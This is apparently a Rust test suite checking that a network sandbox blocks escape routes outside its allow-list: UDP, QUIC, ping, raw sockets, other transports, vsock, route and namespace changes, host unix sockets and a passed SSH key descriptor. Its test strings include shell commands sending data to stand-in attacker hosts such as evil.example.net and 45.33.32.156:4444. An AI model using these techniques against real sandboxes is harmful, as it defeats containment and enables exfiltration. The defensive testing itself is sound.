//! Around the way out: other protocols, other sockets, the network's own configuration, other sandboxes.

use crate::harness::attempt::Attempt;
use crate::harness::canary::random_name;
use crate::harness::online::{Tricks, egress_of, escape_online, must_be_recorded, policy, set_policy};
use crate::harness::patience::wait_for_file;
use crate::harness::service::Service;
use crate::harness::{Run, Scene, each_online, host};
use std::io::BufRead;

/// What the policy of these tests allows.
const ALLOWED: &[&str] = &["web.example.com:80,443", "*.wild.example.com:*"];

/// The raw helper, with a policy.
#[track_caller]
fn attack(words: &[&str], recorded: &str) {
    escape_online(ALLOWED, recorded, |scene| Attempt::attack(scene, words).where_the_kernel_has_it());
}

#[test]
fn datagrams_reach_nobody() {
    Tricks::new(
        ALLOWED,
        &[
            ("attack dgram 45.33.32.156:123 hello", "45.33.32.156:123"),
            ("attack send-udp 45.33.32.156:4444 hello", "45.33.32.156:4444"),
            ("attack dgram 93.184.216.10:4444 hello", "93.184.216.10:4444"),
            ("attack dgram [2600:3c01::66]:4444 hello", "2600:3c01::66"),
            ("attack dgram 10.7.7.7:4444 hello", "10.7.7.7"),
        ],
    )
    .are_refused();
}

#[test]
fn quic_is_refused_at_once_so_that_clients_fall_back() {
    // A QUIC version 1 long header (RFC 9000, section 17.2), to a port where TCP is allowed.
    let hello = r"\xc3\x00\x00\x00\x01\x08lobsters\x00\x00\x44\xb0\*1180:a";
    let slow = "attack dgram $(attack ask udp - A web.example.com | sed -n 's/^GOT //p'):443";
    let trick = format!(
        "begin=$(date +%s%N); {slow} '{hello}'; end=$(date +%s%N); [ $((end - begin)) -gt 20000000000 ] && cat canary"
    );
    Tricks::new(ALLOWED, &[(&trick, "443")]).canary_in("canary").are_refused();
}

#[test]
fn ping_reaches_nobody() {
    attack(&["ping", "45.33.32.156"], "");
    attack(&["ping", "93.184.216.10"], "");
}

#[test]
fn raw_and_packet_sockets_cannot_be_made_where_some_hosts_are_allowed() {
    for words in
        [["socket", "2", "3", "1"], ["socket", "10", "3", "58"], ["socket", "17", "3", "0"], ["socket", "2", "10", "0"]]
    {
        escape_online(ALLOWED, "", |scene| {
            Attempt::attack(scene, &words).bare_only_as_root().where_the_kernel_has_it()
        });
    }
}

#[test]
fn other_transports_reach_nobody() {
    // Multipath TCP, SCTP, DCCP: by the socket that is connected.
    for (kind, protocol) in [("1", "262"), ("1", "132"), ("6", "33")] {
        escape_online(ALLOWED, "", |scene| {
            let words = ["connect-by", "2", kind, protocol, "45.33.32.156:4444"];
            Attempt::attack(scene, &words).leaks().where_the_kernel_has_it()
        });
    }
}

#[test]
fn connecting_by_sending_reaches_nobody() {
    attack(&["fastopen-to", "45.33.32.156:4444"], "");
}

#[test]
fn hypervisor_cannot_be_reached_where_some_hosts_are_allowed() {
    attack(&["vsock-connect", "2", "1024"], "");
}

/// Shell commands that need the rights of the network's owner; what shows that they worked is a zero.
#[track_caller]
fn configuration(commands: &[&str]) {
    let tries: Vec<String> = commands.iter().map(|command| format!("{command} && cat canary")).collect();
    let tricks: Vec<(&str, &str)> = tries.iter().map(|command| (command.as_str(), "")).collect();
    Tricks::new(ALLOWED, &tricks).canary_in("canary").bare_only_as_root().are_refused();
}

#[test]
fn routes_cannot_be_changed() {
    configuration(&[
        "ip route add 203.0.113.0/24 dev lo",
        "ip -6 route add 2001:db8:7::/48 dev lo",
        "ip rule add from all lookup 100",
    ]);
}

#[test]
fn interfaces_and_addresses_cannot_be_added() {
    configuration(&[
        "ip link add one0 type veth peer name two0",
        "ip address add 203.0.113.9/32 dev lo",
        "ip tuntap add tap9 mode tap",
    ]);
}

#[test]
fn settings_of_the_network_cannot_be_changed() {
    configuration(&["echo 1 >/proc/sys/net/ipv4/ip_forward", "echo 0 >/proc/sys/net/ipv4/ip_unprivileged_port_start"]);
}

#[test]
fn another_network_namespace_cannot_be_made_or_joined() {
    for words in [["unshare", "net"], ["unshare", "user"], ["clone-in", "user"], ["clone3-in", "user"]] {
        escape_online(ALLOWED, "", |scene| {
            let attempt = Attempt::attack(scene, &words);
            if words[1] == "net" { attempt.bare_only_as_root() } else { attempt }
        });
    }
    Tricks::new(ALLOWED, &[("nsenter --net=/proc/self/ns/net ~/.local/bin/attack say 45.33.32.156:4444 hello", "")])
        .bare_only_as_root()
        .are_refused();
}

#[test]
fn abstract_and_path_sockets_of_the_host_cannot_be_reached_where_some_hosts_are_allowed() {
    escape_online(ALLOWED, "", |scene| {
        scene.services.push(Service::at_path(&scene.at_work("s"), scene.canary.text()));
        Attempt::attack(scene, &["connect-unix", "s"]).leaks()
    });
    escape_online(ALLOWED, "", |scene| {
        let name = random_name();
        scene.services.push(Service::at_abstract_name(&name, scene.canary.text()));
        // The suite's own listener is outside of the internet's namespaces.
        Attempt::attack(scene, &["connect-unix".to_owned(), format!("@{name}")])
            .leaks()
            .never_bare("it is another network's")
    });
}

#[test]
fn connected_socket_is_not_handed_in_by_a_listener_outside() {
    escape_online(ALLOWED, "", |scene| {
        let secret = std::fs::File::open(scene.at_home(".ssh/id_ed25519")).expect("the secret");
        scene.services.push(Service::handing_over(&scene.at_work("s"), secret));
        Attempt::attack(scene, &["recv-fd", "s"]).leaks()
    });
}

/// A server that says the canary, written so that the script itself does not hold it.
fn server(scene: &Scene) -> Run {
    scene.write(&scene.at_work("canary"), scene.canary.text());
    Run::shell(
        "/usr/bin/python3 -c \"\nimport socket\nserver = socket.create_server(('', 7777))\nprint('listening', flush=True)\nserver.settimeout(120)\n\
         peer, _ = server.accept()\npeer.sendall(open('canary', 'rb').read())\n\"",
    )
}

#[test]
fn listener_of_another_sandbox_cannot_be_reached() {
    each_online(|scene| {
        let attempt = Run::shell(
            "for i in 1 2 3 4 5 6; do for place in 127.0.0.1 192.168.77.2 198.18.0.1 198.18.0.16; do ~/.local/bin/attack say $place:7777 hello; done; sleep 0.3; done",
        );
        if host::only_bare() {
            return;
        }
        set_policy(scene, &policy(&["web.example.com:80,7777"]));
        let mut other = scene.start_sandboxed(&server(scene));
        let said = std::io::BufReader::new(other.stdout.take().expect("stdout is piped"));
        let listens = said.lines().map_while(Result::ok).any(|line| line == "listening");
        let outcome = scene.sandboxed(&attempt);
        drop(other.kill());
        drop(other.wait());
        assert!(listens && outcome.out().contains("TRY"), "{outcome}");
        assert!(!scene.canary.is_in(&outcome.stdout), "as {}: {outcome}", scene.identity.name());
        must_be_recorded(scene, &outcome, "7777");
    });
}

#[test]
fn synthetic_address_of_an_earlier_run_leads_nowhere() {
    if host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(&["web.example.com:80"]));
        let found = scene.sandboxed(&Run::shell("~/.local/bin/attack ask udp - A web.example.com")).ok();
        let address = found.lines().find_map(|line| line.strip_prefix("GOT ")).expect("an address").to_owned();
        set_policy(scene, &policy(&["other.example.com:80"]));
        let ask =
            format!("~/.local/bin/attack say {address}:80 'GET / HTTP/1.1\\r\\nHost: web.example.com\\r\\n\\r\\n'");
        let outcome = scene.sandboxed(&Run::shell(&ask));
        assert!(!outcome.out().contains("hello"), "as {}: {outcome}", scene.identity.name());
        must_be_recorded(scene, &outcome, &address);
    });
}

#[test]
fn end_of_egress_closes_the_network_and_does_not_open_it() {
    if host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(&["web.example.com:80,8080"]));
        let get = "~/.local/bin/attack fetch web.example.com 80 /";
        let script = format!(
            "{get} && echo first; touch ready; while [ ! -e killed ]; do sleep 0.1; done; {get} && echo second; \
             ~/.local/bin/attack fetch evil.example.net 80 /; ~/.local/bin/attack say 45.33.32.156:8080 x; ~/.local/bin/attack ask udp 6.6.6.6 A evil.example.net; echo over"
        );
        let child = scene.start_sandboxed(&Run::shell(&script));
        wait_for_file(scene, "ready");
        let serving = egress_of(scene);
        for process in &serving {
            let _ended = nix::sys::signal::kill(*process, nix::sys::signal::Signal::SIGKILL);
        }
        scene.write(&scene.at_work("killed"), "");
        let output = child.wait_with_output().expect("it ends");
        let (out, err) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        assert!(!serving.is_empty() && out.contains("first") && out.contains("over"), "{out}\n{err}");
        assert!(!out.contains("second") && !scene.canary.is_in(&output.stdout), "{out}\n{err}");
        assert!(err.contains("sandbox-exec: "), "and nothing says so: {out}\n{err}");
    });
}
